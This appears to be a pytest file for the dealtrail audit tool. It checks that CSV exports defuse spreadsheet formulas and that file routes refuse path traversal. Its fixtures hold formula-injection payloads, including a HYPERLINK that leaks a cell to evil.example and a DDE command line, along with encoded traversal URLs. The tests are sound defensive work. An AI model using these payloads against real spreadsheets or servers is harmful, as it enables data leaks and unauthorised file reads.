"""Outputs that cannot attack their reader (issue 19, item 7): every CSV dealtrail writes
neutralises cells a spreadsheet would run, while the Parquet beside it keeps the raw values."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from dealtrail.cli import app as cli
from dealtrail.console import auth
from dealtrail.console.app import ConsoleConfig, create_app
from dealtrail.ingest.audit import audit_file
from dealtrail.simulator.run import write_simulation
from projections.display.spreadsheet import FORMULA_STARTS
from projections.models.reviews import ReviewDue, append_review
from projections.reports.report import write_report
from projections.store.store import Store
from schemas.reviews import FindingAcknowledged

DUE = ReviewDue(voiding=24, integrity=24, procedural=72)
HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A short simulated shift whose dealers are named like spreadsheet formulas (a dealer ID may
    hold any printable text), audited into a store: its findings name those dealers."""
    folder = tmp_path_factory.mktemp("hostile")
    events = folder / "events.jsonl"
    write_simulation(events, tables=2, hours=0.5, seed=5, error_rate=0.3)
    lines = []
    for i, line in enumerate(events.read_text().splitlines()):
        event = json.loads(line)
        if event["type"] == "RoundStarted":
            event["dealer_id"] = HOSTILE[i % len(HOSTILE)]
        lines.append(json.dumps(event))
    events.write_text("\n".join(lines) + "\n")
    db = folder / "hostile.duckdb"
    with Store(db) as store:
        audit_file(events, store, chain=False)
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_report_csv_neutralises_formula_cells_and_the_parquet_keeps_them_raw(
    hostile_store: Path, tmp_path: Path
) -> None:
    files = write_report(hostile_store, tmp_path / "report")
    cells = _cells(files.csv.read_text(encoding="utf-8"))
    assert cells and not [c for c in cells if c[:1] in FORMULA_STARTS]
    assert {"'" + h for h in HOSTILE} <= set(cells)
    with duckdb.connect() as con:
        raw = {r[0] for r in con.execute(f"SELECT DISTINCT dealer_id FROM '{files.parquet}'").fetchall()}
    assert set(HOSTILE) <= raw


def test_console_csv_export_neutralises_formula_cells(hostile_store: Path, tmp_path: Path) -> None:
    db = tmp_path / "console.duckdb"
    db.write_bytes(hostile_store.read_bytes())
    with Store(db) as store:
        auth.add_user(store.con, "vic", "viewer", "vic-viewer-pass", datetime(2026, 11, 1, tzinfo=UTC))
        client = TestClient(create_app(store, ConsoleConfig(DUE, "s" * 48)))
        page = client.get("/login")
        csrf = page.text.split('name="csrf" value="')[1].split('"')[0]
        client.post("/login", data={"username": "vic", "password": "vic-viewer-pass", "csrf": csrf, "next": "/"})
        r = client.get("/findings.csv")
    assert r.status_code == 200
    cells = _cells(r.text)
    assert cells and not [c for c in cells if c[:1] in FORMULA_STARTS]
    assert {"'" + h for h in HOSTILE} <= set(cells)


# -- file routes resolve inside their own folder ------------------------------------------------


def _signed_in(store: Store, reports_dir: Path | None = None) -> TestClient:
    auth.add_user(store.con, "vic", "viewer", "vic-viewer-pass", datetime(2026, 11, 1, tzinfo=UTC))
    client = TestClient(create_app(store, ConsoleConfig(DUE, "s" * 48, reports_dir=reports_dir)))
    csrf = client.get("/login").text.split('name="csrf" value="')[1].split('"')[0]
    client.post("/login", data={"username": "vic", "password": "vic-viewer-pass", "csrf": csrf, "next": "/"})
    return client


@pytest.fixture()
def reports_client(tmp_path: Path) -> Iterator[tuple[TestClient, Path]]:
    """A console whose reports folder holds one real report, with secrets planted around it: one
    folder above, in the folder itself, behind a symbolic link to a folder outside and behind a
    link from a report's file to a file outside."""
    reports = tmp_path / "reports"
    good = reports / "2026-11-27T1400+0000_UTC_shift"
    good.mkdir(parents=True)
    (good / "report.html").write_text("<p>the report</p>")
    (good / "summary.json").write_text('{"ok": true}')
    (tmp_path / "summary.json").write_text('{"secret": "one folder up"}')
    (reports / "summary.json").write_text('{"secret": "in the folder itself"}')
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "report.html").write_text("<p>secret</p>")
    (outside / "summary.json").write_text('{"secret": "outside"}')
    (reports / "leak").symlink_to(outside, target_is_directory=True)
    linked = reports / "2026-11-28T1400+0000_UTC_shift"
    linked.mkdir()
    (linked / "report.html").write_text("<p>another</p>")
    (linked / "summary.json").symlink_to(tmp_path / "summary.json")
    store = Store(tmp_path / "store.duckdb")
    try:  # closed here, not by the collector in whichever test runs then
        yield _signed_in(store, reports), tmp_path
    finally:
        store.close()


@pytest.mark.parametrize(
    "path",
    [
        "/reports/scheduled/%2e%2e/summary.json",
        "/reports/scheduled/%2E%2E/summary.json",
        "/reports/scheduled/%2e/summary.json",
        "/reports/scheduled/%252e%252e/summary.json",
        "/reports/scheduled/..%5csummary.json",
        "/reports/scheduled/2026-11-27T1400+0000_UTC_shift/..%5c..%5csummary.json",
        "/reports/scheduled/2026-11-27T1400+0000_UTC_shift%5c..%5c../summary.json",
        "/reports/scheduled/%2F{root}/summary.json",
        "/reports/scheduled/%2F{root}%2Foutside/summary.json",
        "/reports/scheduled/leak/summary.json",
        "/reports/scheduled/leak/report.html",
        "/reports/scheduled/2026-11-28T1400+0000_UTC_shift/summary.json",
        "/reports/scheduled/2026-11-27T1400+0000_UTC_shift/%2e%2e%2f..%2fsummary.json",
        "/reports/scheduled/2026-11-27T1400+0000_UTC_shift/summary.json%00",
        "/static/%2e%2e%2fapp.py",
        "/static/..%5capp.py",
    ],
)
def test_a_file_route_never_serves_a_file_outside_its_folder(
    reports_client: tuple[TestClient, Path], path: str
) -> None:
    client, root = reports_client
    r = client.get(path.format(root=str(root).lstrip("/").replace("/", "%2F")))
    assert r.status_code == 404, (path, r.status_code, r.text[:200])
    assert "secret" not in r.text


def test_a_scheduled_report_inside_its_folder_is_served(reports_client: tuple[TestClient, Path]) -> None:
    client, _ = reports_client
    r = client.get("/reports/scheduled/2026-11-27T1400+0000_UTC_shift/summary.json")
    assert r.status_code == 200 and r.json() == {"ok": True}
    assert client.get("/reports/scheduled/2026-11-28T1400+0000_UTC_shift/report.html").status_code == 200


# -- cron expressions that cannot be meant ------------------------------------------------------


@pytest.mark.parametrize(("every", "reason"), [("0 0 31 2 *", "never fires"), ("* * * * * 0,30", "seconds field")])
def test_schedule_refuses_a_cron_that_never_fires_or_has_seconds_in_one_line(
    hostile_store: Path, tmp_path: Path, every: str, reason: str
) -> None:
    r = CliRunner().invoke(
        cli, ["schedule", "--every", every, "--db", str(hostile_store), "--out", str(tmp_path), "--once"]
    )
    assert r.exit_code == 2, r.output
    assert reason in r.output and "Traceback" not in r.output
    assert len(r.output.strip().splitlines()) == 1


# -- an ordinary command destroys nothing -------------------------------------------------------


def test_demo_twice_keeps_the_first_store_with_its_users_and_reviews(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import stat

    import dealtrail.simulator.run as sim

    full = sim.write_simulation

    def small(out: Path, tables: int, hours: float, *args: object, **kw: object) -> tuple[int, int]:
        return full(out, 2, 0.25, *args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(sim, "write_simulation", small)
    out = tmp_path / "out"
    r = CliRunner().invoke(cli, ["demo", "--out", str(out)])
    assert r.exit_code == 0, r.output
    db = out / "dealtrail.duckdb"
    with Store(db) as store:
        auth.add_user(store.con, "ada", "admin", "ada-admin-pass", datetime(2026, 11, 1, tzinfo=UTC))
        event = FindingAcknowledged(
            review_id="R1", finding_id="ab" * 16, user="ada", reviewed_at=datetime(2026, 11, 2, tzinfo=UTC)
        )
        assert append_review(store.con, event)
    r = CliRunner().invoke(cli, ["demo", "--out", str(out)])
    assert r.exit_code == 0, r.output
    kept = sorted(out.glob("dealtrail.*.duckdb*"))
    assert len(kept) >= 1 and kept[0].name.startswith("dealtrail.2")
    assert "kept the previous store" in r.output and kept[0].name in " ".join(r.output.split())
    for p in kept:
        assert stat.S_IMODE(p.stat().st_mode) == 0o600
    moved = next(p for p in kept if p.suffix == ".duckdb")
    with duckdb.connect(str(moved), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM reviews WHERE review_id = 'R1'").fetchall() == [(1,)]
        assert con.execute("SELECT name FROM dim_users").fetchall() == [("ada",)]
    with duckdb.connect(str(db), read_only=True) as con:  # the new store starts afresh
        assert con.execute("SELECT count(*) FROM reviews").fetchall() == [(0,)]
        assert con.execute("SELECT count(*) FROM events").fetchall()[0][0] > 0


def test_a_review_form_with_an_unknown_cause_is_a_422_not_a_server_error(hostile_store: Path, tmp_path: Path) -> None:
    db = tmp_path / "form.duckdb"
    db.write_bytes(hostile_store.read_bytes())
    with Store(db) as store:
        auth.add_user(store.con, "rita", "reviewer", "rita-review-pass", datetime(2026, 11, 1, tzinfo=UTC))
        fid = store.con.execute("SELECT finding_id FROM dim_findings LIMIT 1").fetchall()[0][0]
        client = TestClient(create_app(store, ConsoleConfig(DUE, "s" * 48)), raise_server_exceptions=False)
        csrf = client.get("/login").text.split('name="csrf" value="')[1].split('"')[0]
        client.post("/login", data={"username": "rita", "password": "rita-review-pass", "csrf": csrf, "next": "/"})
        page = client.get(f"/findings/{fid}").text
        csrf = page.split('name="csrf" value="')[1].split('"')[0]
        r = client.post(
            f"/findings/{fid}/reviews",
            data={"action": "dispose", "cause": "BAD_LUCK", "corrective_action": "none", "csrf": csrf},
        )
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("text/html")  # the finding page again, not raw JSON
    assert "Input should be" in r.text and 'value="none"' in r.text  # the message, the typed values kept


def test_demo_refuses_in_one_line_while_another_process_holds_the_store(tmp_path: Path) -> None:
    import subprocess
    import sys

    out = tmp_path / "out"
    db = out / "dealtrail.duckdb"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            f"from projections.store.store import Store; s = Store({str(db)!r}); print('ready', flush=True); input()",
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        cwd=Path(__file__).resolve().parents[2],
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "ready"
        r = CliRunner().invoke(cli, ["demo", "--out", str(out)])
    finally:
        holder.communicate("\n", timeout=30)
    assert r.exit_code == 1 and "open in another process" in r.output, r.output
    assert db.exists() and not list(out.glob("dealtrail.2*")), "nothing was moved or deleted"
